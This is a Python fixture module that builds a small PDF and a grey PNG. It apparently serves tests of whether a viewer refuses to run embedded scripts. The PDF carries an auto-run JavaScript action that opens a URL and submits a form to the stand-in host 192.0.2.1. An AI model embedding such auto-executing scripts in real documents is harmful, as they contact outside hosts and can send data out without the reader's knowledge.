"""Small files for the scenes: a PDF of one page that opens in a browser, and a picture."""

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass


@dataclass
class Given:
    """A file as a door gives it."""

    name: str
    content: bytes

    @property
    def size(self) -> int:
        return len(self.content)

    def chunks(self) -> Iterator[bytes]:
        yield self.content


def pdf(title: str) -> bytes:
    """One A5 page with a title and three grey lines, and a script that a viewer must not run: it would ask another host."""
    drawn = b"BT /F1 18 Tf 40 520 Td (" + title.encode("ascii") + b") Tj ET 0.8 g "
    drawn += b" ".join(b"40 %d 320 8 re f" % y for y in (480, 460, 440))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</S/JavaScript/JS(app.alert\\('run'\\);app.launchURL\\('http://192.0.2.1/'\\);this.submitForm\\('http://192.0.2.1/'\\);)>>",
    ]  # fmt: skip
    out, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + trailer


def picture(side: int = 160, fields: int = 5) -> bytes:
    """A grey chart of squares, dark on the diagonal."""
    step = side // fields
    rows = [
        b"\x00"
        + bytes(60 if x // step == y // step else 200 + (x // step * 7 + y // step * 5) % 40 for x in range(side))
        for y in range(side)
    ]
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(b"".join(rows))), (b"IEND", b""))
    body = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)
